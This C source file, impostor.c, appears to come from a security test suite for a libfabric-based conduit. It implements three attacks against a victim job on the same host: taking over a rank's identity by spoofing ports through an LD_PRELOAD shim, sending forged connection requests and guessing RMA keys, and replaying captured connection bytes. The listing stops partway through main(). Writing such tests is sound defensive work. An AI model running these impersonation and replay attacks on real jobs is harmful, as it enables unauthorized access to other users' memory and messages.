/*
 * impostor.c -- a stranger on the host who tries to pass for a member of a
 * firehose job (issue 26): tests/security/takeover.sh runs it, usually as
 * another user, against a 2-rank victim job (victim.c with SEC_TRAFFIC=1).
 * It links libfabric only and knows what anyone can read: the listening
 * ports of the ranks (/proc/net/tcp; the driver names which are rank 0's
 * and which rank 1's), the conduit's source, and -- for the replay -- bytes
 * a member wrote on the wire (tests/security/sec_shim.c's capture, standing
 * in for root with a sniffer).
 *
 * Attacks (--attack, comma-separated):
 *
 *   takeover  [rxm generation: today's conduit, FI_EP_RDM over tcp;ofi_rxm]
 *             For each of rank 1's ports: open a tcp;ofi_rxm endpoint whose
 *             listener *announces* that port (sec_shim_set_port in the
 *             LD_PRELOAD shim makes getsockname lie; rxm sends the port in
 *             its connection request and the peer believes it), send one
 *             8-byte message to each of rank 0's ports to get connected,
 *             then listen for --listen seconds.  BREACH: any message
 *             received (rank 0 talking to us as if we were rank 1; the
 *             first 8 bytes of today's AMs are the token); the driver adds
 *             one if our libfabric logged an RMA request it could not serve
 *             ("invalid rma iov received": rank 0's put or get for rank 1).
 *             Against the MSG generation the requests are refused (their
 *             connection data is rxm's, not a struct ofi_cm_req).
 *
 *   msgconn   [MSG generation: FI_EP_MSG endpoints authenticated per pair]
 *             Raw FI_EP_MSG tcp connection requests to every port of the
 *             job with a struct ofi_cm_req (layout below) claiming each
 *             member identity (src rank r, src path p, dst path p; valid
 *             magic and version, random nonce, the job id from --capture
 *             when it holds one, else random), and malformed ones (no data,
 *             8, 55 and 57 bytes, wrong magic, version, kind, random bytes).
 *             On every connection that results: a proof with a random MAC,
 *             a forged AM for SEC_HANDLER, fi_read and fi_write with keys
 *             0..3 into the segment, and a posted receive.  BREACH: an RMA
 *             completing or a message received; the victim judges the
 *             forged AM (its SEC_HANDLER must never run).  Today rxm
 *             refuses every such request (its connection data does not
 *             parse), so this part finds nothing either way.
 *
 *   replay    [both generations] Raw TCP to every port of the job: for
 *             each connection a rank opened (--capture), send its first write
 *             (the provider's connection request, whose data is rxm's today
 *             and an ofi_cm_req with a MAC-protected handshake in the MSG
 *             generation), read the provider's response (struct
 *             ofi_ctrl_hdr, 32 bytes, + seg_size bytes), send the captured
 *             writes that followed, and keep the connection open for
 *             --listen seconds.  BREACH: any byte received beyond the
 *             connection response.
 *
 * What the job saw (a rank that died, a ping or put that went astray, a
 * handler that ran) is judged by victim.c and the driver.
 *
 * Exit: 0 no breach seen from here, 1 a BREACH, 2 setup problem, 77 no tcp
 * provider.
 */
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#include "sec_common.h"

static void hex(char *out, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i < n; i++)
        sprintf(out + 2 * i, "%02x", p[i]);
    out[2 * n] = '\0';
}

static void rnd(void *b, size_t n)
{
    if (getrandom(b, n, 0) != (ssize_t)n)
        memset(b, 0x5a, n);
}

/* ------------------------------------------------------------ options */

#define MAXP 64
static unsigned ports0[MAXP], ports1[MAXP];
static size_t nports0, nports1;
static int nranks = 2, npaths_opt;
static const char *capture_path;
static uint64_t seg_addr;
static double listen_s = 3.0;
static const char *host = "127.0.0.1";

static size_t parse_ports(const char *s, unsigned *out)
{
    size_t n = 0;
    char *dup = strdup(s), *save = NULL;
    for (char *p = strtok_r(dup, ",", &save); p && n < MAXP;
         p = strtok_r(NULL, ",", &save))
        if (atoi(p) > 0)
            out[n++] = (unsigned)atoi(p);
    free(dup);
    return n;
}

static int npaths(void)
{
    if (npaths_opt > 0)
        return npaths_opt;
    long c = sysconf(_SC_NPROCESSORS_ONLN);   /* fh_init's default */
    c = c < 1 ? 1 : c > 16 ? 16 : c;
    return 1 + (int)c;
}

static struct sockaddr_in sin_of(unsigned port)
{
    struct sockaddr_in a = {.sin_family = AF_INET,
                            .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &a.sin_addr);
    return a;
}

/* ------------------------------------------------- captured connections */

struct cwrite { unsigned conn, dport, k; uint8_t *b; size_t len; };
static struct cwrite *cw;
static size_t ncw;

/* Reads sec_shim's "c <pid> <conn> <dport> <k> <hex>" lines; a
 * connection is named by pid * 65536 + conn from here on. */
static size_t load_capture(const char *path)
{
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    size_t cap = 0;
    char *line = NULL;
    size_t lcap = 0;
    while (getline(&line, &lcap, f) > 0) {
        unsigned pid, conn, dport, k;
        int off = 0;
        if (sscanf(line, "c %u %u %u %u %n", &pid, &conn, &dport, &k, &off) != 4)
            continue;
        conn = pid * 65536u + (conn & 0xffffu);
        const char *h = line + off;
        size_t hl = strcspn(h, "\n") / 2;
        if (ncw == cap) {
            cap = cap ? 2 * cap : 64;
            struct cwrite *n = realloc(cw, cap * sizeof *cw);
            if (!n)
                break;
            cw = n;
        }
        uint8_t *b = malloc(hl ? hl : 1);
        if (!b)
            break;
        for (size_t i = 0; i < hl; i++)
            sscanf(h + 2 * i, "%2hhx", &b[i]);
        cw[ncw++] = (struct cwrite){conn, dport, k, b, hl};
    }
    free(line);
    fclose(f);
    return ncw;
}

/* ---------------------------------- MSG generation: connection messages */

/* struct ofi_cm_req (56 bytes, little endian; issue 26's design): fi_connect
 * param, arriving in the listener's FI_CONNREQ. */
#define CM_MAGIC   0x6d636866u      /* "fhcm" */
#define CM_VERSION 1u
enum { CM_REQ = 1, CM_ACC = 2, CM_PROOF = 3 };
#define CM_REQ_BYTES   56
#define CM_PROOF_BYTES 40

static void put16(uint8_t *p, uint16_t v) { memcpy(p, &v, 2); }
static void put32(uint8_t *p, uint32_t v) { memcpy(p, &v, 4); }
static void put64(uint8_t *p, uint64_t v) { memcpy(p, &v, 8); }

static uint8_t job_id[16];
static int have_job_id;

static void cm_req(uint8_t *p, uint32_t src_rank, uint32_t src_path,
                   uint32_t dst_rank, uint32_t dst_path)
{
    put32(p, CM_MAGIC);
    put16(p + 4, CM_VERSION);
    put16(p + 6, CM_REQ);
    put32(p + 8, src_rank);
    put32(p + 12, src_path);
    put32(p + 16, dst_rank);
    put32(p + 20, dst_path);
    memcpy(p + 24, job_id, 16);
    rnd(p + 40, 16);                 /* our nonce */
}

/* The job id: from a struct ofi_cm_req a member sent (in the capture),
 * else random.  Today's captures hold rxm's connection data: no magic. */
static void find_job_id(void)
{
    for (size_t i = 0; i < ncw && !have_job_id; i++)
        for (size_t o = 0; o + CM_REQ_BYTES <= cw[i].len; o++) {
            uint32_t m;
            uint16_t v, k;
            memcpy(&m, cw[i].b + o, 4);
            memcpy(&v, cw[i].b + o + 4, 2);
            memcpy(&k, cw[i].b + o + 6, 2);
            if (m == CM_MAGIC && v == CM_VERSION && k == CM_REQ) {
                memcpy(job_id, cw[i].b + o + 24, 16);
                have_job_id = 1;
                break;
            }
        }
    if (!have_job_id)
        rnd(job_id, sizeof job_id);
    char h[33];
    hex(h, job_id, 16);
    say("msgconn: job id %s (%s)\n", h, have_job_id
        ? "read from a struct ofi_cm_req in the capture"
        : "random: no struct ofi_cm_req in the capture -- the job does not "
          "speak the MSG-generation handshake");
}

/* ------------------------------------------------------------- fabric */

static struct fi_info *info;
static struct fid_fabric *fabric;
static struct fid_domain *domain;
static struct fid_cq *cq;
static struct fid_eq *eq;
static struct fid_mr *mr;
static uint8_t arena[64 << 10];
static void *desc;

static int open_fabric(int type, const char *prov)
{
    struct fi_info *h = fi_allocinfo();
    if (!h)
        return 2;
    h->caps = FI_MSG | FI_RMA | (type == FI_EP_RDM ? FI_SOURCE : 0);
    h->mode = FI_CONTEXT | FI_CONTEXT2;
    h->ep_attr->type = (enum fi_ep_type)type;
    h->addr_format = FI_SOCKADDR_IN;
    h->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR |
                              FI_MR_ALLOCATED | FI_MR_PROV_KEY;
    h->domain_attr->av_type = FI_AV_TABLE;
    h->fabric_attr->prov_name = strdup(prov);
    int ret = fi_getinfo(FI_VERSION(1, 17), host, NULL, FI_SOURCE, h, &info);
    fi_freeinfo(h);
    if (ret) {
        say("impostor: SKIP: fi_getinfo(%s, %s): %s\n", prov,
            type == FI_EP_RDM ? "FI_EP_RDM" : "FI_EP_MSG", fi_strerror(-ret));
        return 77;
    }
#define TRY(call) do { ret = (call); if (ret) { \
        say("impostor: %s: %s\n", #call, fi_strerror(-ret)); return 2; } \
    } while (0)
    TRY(fi_fabric(info->fabric_attr, &fabric, NULL));
    TRY(fi_domain(fabric, info, &domain, NULL));
    struct fi_cq_attr ca = {.format = FI_CQ_FORMAT_DATA,
                            .wait_obj = FI_WAIT_NONE, .size = 1024};
    TRY(fi_cq_open(domain, &ca, &cq, NULL));
    if (type == FI_EP_MSG) {
        struct fi_eq_attr ea = {.size = 256, .wait_obj = FI_WAIT_UNSPEC};
        TRY(fi_eq_open(fabric, &ea, &eq, NULL));
    }
    TRY(fi_mr_reg(domain, arena, sizeof arena, FI_SEND | FI_RECV | FI_READ |
                  FI_WRITE, 0, 0, 0, &mr, NULL));
    desc = fi_mr_desc(mr);
#undef TRY
    return 0;
}

static void close_fabric(void)
{
    if (mr) fi_close(&mr->fid);
    if (eq) fi_close(&eq->fid);
    if (cq) fi_close(&cq->fid);
    if (domain) fi_close(&domain->fid);
    if (fabric) fi_close(&fabric->fid);
    if (info) fi_freeinfo(info);
}

/* Operation contexts: which endpoint and what it was. */
enum { OP_RECV = 1, OP_SEND, OP_READ, OP_WRITE };
struct op {
    struct fi_context2 ctx;      /* first */
    int kind, who;               /* who: index of the endpoint */
    uint64_t key;
    uint8_t *buf;
};

static const char *op_name(int k)
{
    return k == OP_RECV ? "receive" : k == OP_SEND ? "send"
         : k == OP_READ ? "fi_read" : "fi_write";
}

/* Handles completions; on_done(op, ok, len, src) is told of each. */
typedef void (*done_fn)(struct op *o, int ok, size_t len, fi_addr_t src,
                        const char *err);
static void drain(done_fn fn)
{
    struct fi_cq_data_entry e[16];
    fi_addr_t src[16];
    for (;;) {
        ssize_t n = fi_cq_readfrom(cq, e, 16, src);
        if (n > 0) {
            for (ssize_t i = 0; i < n; i++)
                if (e[i].op_context)
                    fn(e[i].op_context, 1, e[i].len, src[i], NULL);
            continue;
        }
        if (n == -FI_EAVAIL) {
            struct fi_cq_err_entry ee;
            memset(&ee, 0, sizeof ee);
            if (fi_cq_readerr(cq, &ee, 0) == 1 && ee.op_context)
                fn(ee.op_context, 0, 0, FI_ADDR_NOTAVAIL, fi_strerror(ee.err));
            continue;
        }
        return;
    }
}

/* ------------------------------------------- takeover (rxm generation) */

struct imp_ep {
    struct fid_ep *ep;
    struct fid_av *av;
    unsigned as_port;            /* the rank-1 port it announces */
    fi_addr_t r0[MAXP];          /* rank 0's ports in its AV */
    unsigned got, sent_ok, sent_fail;
};
static struct imp_ep *ieps;

static void takeover_done(struct op *o, int ok, size_t len, fi_addr_t src,
                          const char *err)
{
    struct imp_ep *e = &ieps[o->who];
    if (o->kind == OP_SEND) {
        ok ? e->sent_ok++ : e->sent_fail++;
        if (!ok)
            say("takeover: as rank 1 (port %u): our connecting send failed: "
                "%s\n", e->as_port, err);
        return;
    }
    if (!ok)
        return;               /* cancelled at close */
    e->got++;
    char h[2 * 24 + 1];
    hex(h, o->buf, len < 24 ? len : 24);
    const char *from = "an address outside our AV";
    char fb[64];
    for (size_t k = 0; k < nports0; k++)
        if (src == e->r0[k]) {
            snprintf(fb, sizeof fb, "rank 0's port %u", ports0[k]);
            from = fb;
        }
    breach("takeover: received a %zu-byte message from %s on our endpoint "
           "announcing rank 1's port %u (rank 0 sent it to rank 1; first "
           "bytes %s -- in today's conduit the first 8 are rank 1's token)",
           len, from, e->as_port, h);
    /* repost */
    fi_recv(e->ep, o->buf, 4096, desc, FI_ADDR_UNSPEC, &o->ctx);
}

static int attack_takeover(void)
{
    void (*set_port)(unsigned) =
        (void (*)(unsigned))dlsym(RTLD_DEFAULT, "sec_shim_set_port");
    if (!set_port) {
        say("impostor: ERROR: takeover needs LD_PRELOAD=libsec_shim.so "
            "(tests/security/sec_shim.c) to announce another port\n");
        return 2;
    }
    int ret = open_fabric(FI_EP_RDM, "tcp;ofi_rxm");
    if (ret)
        return ret;
    ieps = calloc(nports1, sizeof *ieps);
    struct op *ops = calloc(nports1 * (8 + nports0), sizeof *ops);
    if (!ieps || !ops)
        return 2;
    size_t nop = 0;
    for (size_t j = 0; j < nports1; j++) {
        struct imp_ep *e = &ieps[j];
        e->as_port = ports1[j];
        struct fi_av_attr aa = {.type = FI_AV_TABLE, .count = MAXP};
        set_port(ports1[j]);
        ret = fi_av_open(domain, &aa, &e->av, NULL);
        if (!ret) ret = fi_endpoint(domain, info, &e->ep, NULL);
        if (!ret) ret = fi_ep_bind(e->ep, &e->av->fid, 0);
        if (!ret) ret = fi_ep_bind(e->ep, &cq->fid, FI_TRANSMIT | FI_RECV);
        if (!ret) ret = fi_enable(e->ep);
        set_port(0);
        if (ret) {
            say("impostor: endpoint announcing port %u: %s\n", ports1[j],
                fi_strerror(-ret));
            return 2;
        }
        struct sockaddr_in me;
        size_t ml = sizeof me;
        fi_getname(&e->ep->fid, &me, &ml);
        say("takeover: endpoint %zu announces %s:%u (rank 1's port %u)\n", j,
            inet_ntoa(me.sin_addr), ntohs(me.sin_port), ports1[j]);
        for (int r = 0; r < 8; r++) {
            struct op *o = &ops[nop++];
            o->kind = OP_RECV;
            o->who = (int)j;
            o->buf = arena + (size_t)(nop % 15) * 4096;
            fi_recv(e->ep, o->buf, 4096, desc, FI_ADDR_UNSPEC, &o->ctx);
        }
        for (size_t k = 0; k < nports0; k++) {
            struct sockaddr_in a = sin_of(ports0[k]);
            if (fi_av_insert(e->av, &a, 1, &e->r0[k], 0, NULL) != 1) {
                say("impostor: fi_av_insert(port %u) failed\n", ports0[k]);
                return 2;
            }
        }
    }
    /* Connect: one small message to every port of rank 0 from every
     * endpoint; rxm connects on the first send.  Rank 0 drops the bytes
     * (no token), but the connection now names us rank 1. */
    for (size_t j = 0; j < nports1; j++)
        for (size_t k = 0; k < nports0; k++) {
            struct op *o = &ops[nop++];
            o->kind = OP_SEND;
            o->who = (int)j;
            o->buf = arena + (size_t)15 * 4096;
            memset(o->buf, 0, 8);
            double t0 = sec_now_s();
            ssize_t r;
            while ((r = fi_send(ieps[j].ep, o->buf, 8, desc, ieps[j].r0[k],
                                &o->ctx)) == -FI_EAGAIN && sec_now_s() - t0 < 2)
                drain(takeover_done);
            if (r)
                say("takeover: as rank 1 (port %u) to rank 0's port %u: "
                    "fi_send: %s\n", ieps[j].as_port, ports0[k],
                    fi_strerror((int)-r));
        }
    say("takeover: connected (or tried) %zu x %zu times; listening %.1f s "
        "for what rank 0 sends rank 1\n", nports1, nports0, listen_s);
    for (double t0 = sec_now_s(); sec_now_s() - t0 < listen_s;) {
        drain(takeover_done);
        usleep(1000);
    }
    for (size_t j = 0; j < nports1; j++) {
        say("takeover: as rank 1 (port %u): %u connecting sends completed, "
            "%u failed, %u messages received\n", ieps[j].as_port,
            ieps[j].sent_ok, ieps[j].sent_fail, ieps[j].got);
        fi_close(&ieps[j].ep->fid);
        fi_close(&ieps[j].av->fid);
    }
    free(ops);
    free(ieps);
    close_fabric();
    return 0;
}

/* ------------------------------------------- msgconn (MSG generation) */

struct mconn {
    struct fid_ep *ep;
    char what[120];
    int state;                   /* 0 pending, 1 connected, 2 refused/closed */
    double t_conn;
    int probed;
};
static struct mconn *mc;
static size_t nmc, nsent;

static void msg_done(struct op *o, int ok, size_t len, fi_addr_t src,
                     const char *err)
{
    (void)src;
    struct mconn *c = &mc[o->who];
    if (o->kind == OP_RECV) {
        if (ok)
            breach("msgconn: %s: received a %zu-byte message from the job",
                   c->what, len);
        return;
    }
    if (o->kind == OP_READ || o->kind == OP_WRITE) {
        if (ok)
            breach("msgconn: %s: %s with guessed key %" PRIu64 " completed",
                   c->what, op_name(o->kind), o->key);
        else
            say("msgconn: %s: %s key %" PRIu64 " failed: %s\n", c->what,
                op_name(o->kind), o->key, err);
        return;
    }
    if (!ok)
        say("msgconn: %s: send failed: %s\n", c->what, err);
}

/* After FI_CONNECTED: everything a connection could be used for. */
static void probe(struct mconn *c, struct op *ops, size_t *nop)
{
    struct op *o = &ops[(*nop)++];
    o->kind = OP_RECV;
    o->who = (int)(c - mc);
    o->buf = arena + 32768;
    fi_recv(c->ep, o->buf, 4096, desc, 0, &o->ctx);

    uint8_t *p = arena + (size_t)(c - mc) % 64 * 256;
    put32(p, CM_MAGIC);                         /* struct ofi_cm_proof */
    put16(p + 4, CM_VERSION);
    put16(p + 6, CM_PROOF);
    rnd(p + 8, 32);                              /* a MAC we cannot make */
    o = &ops[(*nop)++];
    o->kind = OP_SEND;
    o->who = (int)(c - mc);
    fi_send(c->ep, p, CM_PROOF_BYTES, desc, 0, &o->ctx);

    /* A forged AM in today's layout (struct ofi_amh + firehose/am_wire.h
     * header) for SEC_HANDLER: its conduit header is guesswork in the MSG
     * generation, which is the point -- it must never reach a handler. */
    uint8_t *m = p + 64;
    memset(m, 0, 64);
    put32(m + 8, 0);                            /* seq */
    m[16] = 0xF4; m[17] = 1; m[18] = (uint8_t)SEC_HANDLER; m[19] = 2;
    put32(m + 24, 1);                           /* claims rank 1 */
    put64(m + 40, SEC_ARG0);
    put64(m + 48, 0x1A4E);
    o = &ops[(*nop)++];
    o->kind = OP_SEND;
    o->who = (int)(c - mc);
    fi_send(c->ep, m, 56, desc, 0, &o->ctx);

    for (uint64_t key = 0; key < 4; key++)
        for (int w = 0; w <= 1; w++) {
            o = &ops[(*nop)++];
            o->kind = w ? OP_WRITE : OP_READ;
            o->who = (int)(c - mc);
            o->key = key;
            uint8_t *b = arena + 40960 + (size_t)(*nop % 64) * 64;
            uint64_t addr = seg_addr + (w ? SEC_WRITE_OFF : 0);
            if (w)
                memcpy(b, "IMPOSTOR-WROTE!!", 16);
            ssize_t r = w ? fi_write(c->ep, b, 16, desc, 0, addr, key, &o->ctx)
                          : fi_read(c->ep, b, 64, desc, 0, addr, key, &o->ctx);
            if (r)
                say("msgconn: %s: %s key %" PRIu64 ": not posted (%s)\n",
                    c->what, op_name(o->kind), key, fi_strerror((int)-r));
        }
}

static void add_conn(unsigned port, const void *param, size_t plen,
                     const char *fmt, ...)
{
    struct mconn *c = &mc[nmc];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(c->what, sizeof c->what, fmt, ap);
    va_end(ap);
    struct fi_info *h = fi_dupinfo(info), *ci = NULL;
    char svc[16];
    snprintf(svc, sizeof svc, "%u", port);
    free(h->src_addr);
    h->src_addr = NULL;
    h->src_addrlen = 0;
    struct sockaddr_in a = sin_of(port);
    const char *step = "fi_getinfo";
    int ret = fi_getinfo(FI_VERSION(1, 17), host, svc, 0, h, &ci);
    fi_freeinfo(h);
    if (!ret && (step = "fi_endpoint"))
        ret = fi_endpoint(domain, ci, &c->ep, c);
    if (!ret && (step = "fi_ep_bind"))
        ret = fi_ep_bind(c->ep, &eq->fid, 0);
    if (!ret)
        ret = fi_ep_bind(c->ep, &cq->fid, FI_TRANSMIT | FI_RECV);
    if (!ret && (step = "fi_enable"))
        ret = fi_enable(c->ep);
    if (!ret && (step = "fi_connect"))
        ret = fi_connect(c->ep, &a, param, plen);
    if (ci)
        fi_freeinfo(ci);
    if (ret) {
        say("msgconn: %s: not sent: %s: %s\n", c->what, step,
            fi_strerror(-ret));
        c->state = 2;
    } else {
        nsent++;
    }
    nmc++;
}

static int attack_msgconn(void)
{
    int ret = open_fabric(FI_EP_MSG, "tcp");
    if (ret)
        return ret;
    find_job_id();
    const int P = npaths();
    size_t max = (nports0 + nports1) * ((size_t)nranks * (size_t)P + 16);
    mc = calloc(max, sizeof *mc);
    struct op *ops = calloc(max * 12, sizeof *ops);
    if (!mc || !ops)
        return 2;
    size_t nop = 0;
    for (size_t t = 0; t < nports0 + nports1; t++) {
        unsigned port = t < nports0 ? ports0[t] : ports1[t - nports0];
        uint32_t owner = t < nports0 ? 0 : 1;
        uint8_t req[CM_REQ_BYTES], junk[200];
        for (int r = 0; r < nranks; r++)
            for (int p = 0; p < P; p++) {
                cm_req(req, (uint32_t)r, (uint32_t)p, owner, (uint32_t)p);
                add_conn(port, req, sizeof req, "port %u (rank %u): ofi_cm_req "
                         "claiming rank %d path %d", port, owner, r, p);
            }
        cm_req(req, 1 - owner, 0, owner, 0);
        add_conn(port, NULL, 0, "port %u: no connection data", port);
        add_conn(port, req, 8, "port %u: 8 bytes of an ofi_cm_req", port);
        add_conn(port, req, 55, "port %u: 55 bytes of an ofi_cm_req", port);
        memcpy(junk, req, sizeof req);
        junk[56] = 0;
        add_conn(port, junk, 57, "port %u: an ofi_cm_req + 1 byte", port);
        memcpy(junk, req, sizeof req);
        junk[0] ^= 0xff;
        add_conn(port, junk, 56, "port %u: ofi_cm_req, wrong magic", port);
        memcpy(junk, req, sizeof req);
        put16(junk + 4, 2);
        add_conn(port, junk, 56, "port %u: ofi_cm_req, version 2", port);
        memcpy(junk, req, sizeof req);
        put16(junk + 6, CM_PROOF);
        add_conn(port, junk, 56, "port %u: ofi_cm_req, kind 3", port);
        memcpy(junk, req, sizeof req);
        put32(junk + 16, 7);
        add_conn(port, junk, 56, "port %u: ofi_cm_req, dst rank 7", port);
        rnd(junk, sizeof junk);
        add_conn(port, junk, 56, "port %u: 56 random bytes", port);
        add_conn(port, junk, 200, "port %u: 200 random bytes", port);
    }
    say("msgconn: %zu connection requests sent to %zu ports (%zu could not "
        "be sent)\n", nsent, nports0 + nports1, nmc - nsent);
    if (nsent == 0) {
        say("impostor: ERROR: msgconn sent nothing\n");
        return 2;
    }
    unsigned connected = 0, refused = 0, closed = 0;
    double t0 = sec_now_s();
    while (sec_now_s() - t0 < listen_s) {
        struct fi_eq_cm_entry ent;
        uint32_t ev;
        ssize_t r = fi_eq_read(eq, &ev, &ent, sizeof ent, 0);
        if (r == -FI_EAVAIL) {
            struct fi_eq_err_entry ee;
            memset(&ee, 0, sizeof ee);
            if (fi_eq_readerr(eq, &ee, 0) > 0 && ee.fid) {
                struct mconn *c = ee.fid->context;
                if (c && c->state == 0) {
                    c->state = 2;
                    refused++;
                    say("msgconn: %s: refused (%s)\n", c->what,
                        fi_strerror(ee.err));
                }
            }
        } else if (r > 0) {
            struct mconn *c = ent.fid->context;
            if (c && ev == FI_CONNECTED && c->state == 0) {
                c->state = 1;
                c->t_conn = sec_now_s();
                connected++;
                say("msgconn: %s: CONNECTED (%zd bytes of accept data); "
                    "trying to use it\n", c->what,
                    r - (ssize_t)sizeof(struct fi_eq_cm_entry));
                probe(c, ops, &nop);
            } else if (c && ev == FI_SHUTDOWN) {
                say("msgconn: %s: closed by the job after %.2f s\n", c->what,
                    c->state == 1 ? sec_now_s() - c->t_conn : 0.0);
                c->state = 2;
                closed++;
            }
        }
        drain(msg_done);
        usleep(500);
    }
    unsigned open_left = 0;
    for (size_t i = 0; i < nmc; i++) {
        if (mc[i].state == 1) {
            open_left++;
            say("msgconn: %s: still connected after %.1f s (nothing usable "
                "seen on it)\n", mc[i].what, sec_now_s() - mc[i].t_conn);
        }
        if (mc[i].state == 0)
            say("msgconn: %s: no answer within %.1f s\n", mc[i].what,
                listen_s);
    }
    say("msgconn: %zu requests: %u refused, %u connected (%u closed by the "
        "job, %u still open)\n", nmc, refused, connected, closed, open_left);
    for (size_t i = 0; i < nmc; i++)
        if (mc[i].ep)
            fi_close(&mc[i].ep->fid);
    drain(msg_done);
    free(ops);
    free(mc);
    close_fabric();
    return 0;
}

/* ------------------------------------------------ replay (both) */

/* "rank pid P connection C" for a connection named pid * 65536 + C. */
static const char *conn_label(unsigned conn)
{
    static char b[4][48];
    static int i;
    i = (i + 1) % 4;
    snprintf(b[i], sizeof b[i], "pid %u's connection %u", conn / 65536u,
             conn % 65536u);
    return b[i];
}

static int attack_replay(void)
{
    unsigned conns[64];
    size_t nconn = 0;
    for (size_t i = 0; i < ncw; i++) {
        size_t k;
        for (k = 0; k < nconn && conns[k] != cw[i].conn; k++)
            ;
        if (k == nconn && nconn < 8)      /* enough, and < 60 s */
            conns[nconn++] = cw[i].conn;
    }
    if (nconn == 0) {
        say("impostor: ERROR: replay: the capture holds no connection\n");
        return 2;
    }
    /* Every port of the job: a connection request is meant for one
     * listener, but a replay may try them all. */
    unsigned ports[2 * MAXP];
    size_t nports = 0;
    for (size_t i = 0; i < nports0; i++)
        ports[nports++] = ports0[i];
    for (size_t i = 0; i < nports1; i++)
        ports[nports++] = ports1[i];
    say("replay: %zu captured connections (%zu writes) x %zu ports of the "
        "job\n", nconn, ncw, nports);
    size_t n = nconn * nports;
    int *fd = calloc(n, sizeof *fd);
    size_t *got = calloc(n, sizeof *got);
    if (!fd || !got)
        return 2;
    for (size_t i = 0; i < n; i++) {
        unsigned conn = conns[i / nports], port = ports[i % nports];
        struct sockaddr_in a = sin_of(port);
        fd[i] = socket(AF_INET, SOCK_STREAM, 0);
        struct timeval tv = {2, 0};
        setsockopt(fd[i], SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        if (connect(fd[i], (struct sockaddr *)&a, sizeof a) != 0) {
            say("replay: %s -> port %u: connect: %s\n", conn_label(conn), port,
                strerror(errno));
            close(fd[i]);
            fd[i] = -1;
            continue;
        }
        const struct cwrite *first = NULL;
        for (size_t w = 0; w < ncw && !first; w++)
            if (cw[w].conn == conn)
                first = &cw[w];
        if (send(fd[i], first->b, first->len, MSG_NOSIGNAL) < 0)
            say("replay: %s -> port %u: send: %s\n", conn_label(conn), port,
                strerror(errno));
        /* The provider's answer: struct ofi_ctrl_hdr (32 bytes: version,
         * type, seg_size big-endian, ...) + seg_size bytes of data. */
        uint8_t hdr[32], data[256];
        ssize_t r = recv(fd[i], hdr, sizeof hdr, MSG_WAITALL);
        if (r != (ssize_t)sizeof hdr) {
            say("replay: %s (captured to port %u) -> port %u: no "
                "connection response (%s)\n", conn_label(conn), first->dport, port,
                r == 0 ? "closed" : r < 0 ? strerror(errno) : "short");
            close(fd[i]);
            fd[i] = -1;
            continue;
        }
        size_t dl = (size_t)hdr[2] << 8 | hdr[3];
        if (dl > sizeof data)
            dl = sizeof data;
        r = dl ? recv(fd[i], data, dl, MSG_WAITALL) : 0;
        say("replay: %s (captured to port %u) -> port %u: provider "
            "answered type %u (%s) with %zu bytes of data\n", conn_label(conn),
            first->dport, port, hdr[1], hdr[1] == 1 ? "connresp: accepted"
            : hdr[1] == 6 ? "nack: rejected" : "?", dl);
        /* Everything rank 1 wrote after its request. */
        for (size_t w = 0; w < ncw; w++)
            if (cw[w].conn == conn && &cw[w] != first)
                if (send(fd[i], cw[w].b, cw[w].len, MSG_NOSIGNAL) < 0)
                    break;
    }
    /* Keep them open and read whatever comes. */
    for (double t0 = sec_now_s(); sec_now_s() - t0 < listen_s;) {
        struct pollfd pf[256];
        size_t np = 0, idx[256];
        for (size_t i = 0; i < n && np < 256; i++)
            if (fd[i] >= 0) {
                pf[np] = (struct pollfd){.fd = fd[i], .events = POLLIN};
                idx[np++] = i;
            }
        if (np == 0 || poll(pf, np, 100) <= 0)
            continue;
        for (size_t k = 0; k < np; k++) {
            if (!(pf[k].revents & (POLLIN | POLLHUP | POLLERR)))
                continue;
            size_t i = idx[k];
            uint8_t b[4096];
            ssize_t r = recv(fd[i], b, sizeof b, MSG_DONTWAIT);
            if (r > 0) {
                char h[2 * 32 + 1];
                hex(h, b, r < 32 ? (size_t)r : 32);
                if (got[i] == 0)
                    breach("replay: %s -> port %u: received %zd bytes "
                           "beyond the connection response (%s...)",
                           conn_label(conns[i / nports]), ports[i % nports], r, h);
                got[i] += (size_t)r;
            } else if (r == 0 || (r < 0 && errno != EAGAIN)) {
                say("replay: %s -> port %u: closed by the job after "
                    "%zu further bytes\n", conn_label(conns[i / nports]),
                    ports[i % nports], got[i]);
                close(fd[i]);
                fd[i] = -1;
            }
        }
    }
    for (size_t i = 0; i < n; i++)
        if (fd[i] >= 0) {
            say("replay: %s -> port %u: still open after %.1f s, %zu "
                "further bytes received\n", conn_label(conns[i / nports]),
                ports[i % nports], listen_s, got[i]);
            close(fd[i]);
        }
    free(fd);
    free(got);
    return 0;
}

/* --------------------------------------------------------------- main */

static void usage(void)
{
    fprintf(stderr,
            "usage: impostor --attack takeover|msgconn|replay[,...] "
            "--ports0 P,... --ports1 P,...\n"
            "                [--capture FILE] [--seg ADDR] [--npaths N] "
            "[--nranks N] [--listen SEC]\n");
    exit(2);
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    static const struct option lo[] = {
        {"attack", required_argument, NULL, 'a'},
        {"ports0", required_argument, NULL, '0'},
        {"ports1", required_argument, NULL, '1'},
        {"capture", required_argument, NULL, 'c'},
        {"seg", required_argument, NULL, 's'},
        {"npaths", required_argument, NULL, 'n'},
        {"nranks", required_argument, NULL, 'N'},
        {"listen", required_argument, NULL, 'l'},
        {NULL, 0, NULL, 0},
    };
    const char *attacks = NULL;
    int c;
    while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
        switch (c) {
        case 'a': attacks = optarg; break;
        case '0': nports0 = parse_ports(optarg, ports0); break;
        case '1': nports1 = parse_ports(optarg, ports1); break;
        case 'c': capture_path = optarg; break;
        case 's': seg_addr = strtoull(optarg, NULL, 0); break;
        case 'n': npaths_opt = atoi(optarg); break;
